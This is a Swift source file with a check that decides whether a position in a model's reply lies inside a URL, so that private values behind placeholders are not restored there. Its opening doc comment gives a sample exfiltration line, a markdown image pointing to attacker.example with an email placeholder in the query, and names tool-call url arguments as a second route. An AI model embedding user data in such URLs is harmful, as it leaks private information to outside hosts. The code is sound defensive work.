/// Whether a position in a text stands inside a URL, for the restore policy.
///
/// A model that can put a placeholder into a URL — `![](https://attacker.example/?q=⟦EMAIL_1_…⟧)`
/// in a reply that a client renders, a tool call's `url` argument — can have the restored
/// value sent to a host of its choosing. The check reads back from the position over the run of
/// bytes with no white space, quote, `<`, `>` or backtick, and calls it a URL when that run holds
/// `://` or starts with `//` or `www.` (any case). A run longer than ``maximumRun`` bytes, or
/// one that reaches the start of text known to be cut (``isInURL(_:at:preceding:precedingIsComplete:)``),
/// counts as a URL: when in doubt, a value stays a placeholder.
public enum URLContext {
    /// The longest run read back before the answer is "in a URL" without looking further.
    public static let maximumRun = 4096

    /// Whether position `position` of `bytes` is inside a URL; `preceding` is the text just
    /// before `bytes` (a stream's released text), complete when it reaches the start of the
    /// reply.
    public static func isInURL(
        _ bytes: some Collection<UInt8>, at position: Int, preceding: some Collection<UInt8> = [UInt8](),
        precedingIsComplete: Bool = true
    ) -> Bool {
        var run: [UInt8] = []
        // Only the last `maximumRun + 1` bytes can matter: a run longer than that is a URL.
        let own = Array(bytes.prefix(position).suffix(maximumRun + 1))
        let before = own.count > maximumRun ? own : Array(preceding.suffix(maximumRun + 1 - own.count)) + own
        var index = before.count - 1
        while index >= 0, !isDelimiter(before[index]) {
            run.append(before[index])
            if run.count > maximumRun { return true }
            index -= 1
        }
        if index < 0, !precedingIsComplete, before.count > 0 { return true }
        run.reverse()
        let lowered = run.map { $0 | ($0 >= 0x41 && $0 <= 0x5A ? 0x20 : 0) }
        if lowered.starts(with: Array("//".utf8)) || lowered.starts(with: Array("www.".utf8)) { return true }
        let scheme = Array("://".utf8)
        guard lowered.count >= scheme.count else { return false }
        for start in 0...(lowered.count - scheme.count) where lowered[start..<(start + scheme.count)].elementsEqual(scheme) {
            return true
        }
        return false
    }

    private static func isDelimiter(_ byte: UInt8) -> Bool {
        switch byte {
        case 0x20, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, UInt8(ascii: "\""), UInt8(ascii: "'"), UInt8(ascii: "<"), UInt8(ascii: ">"),
            UInt8(ascii: "`"):
            true
        default:
            false
        }
    }
}
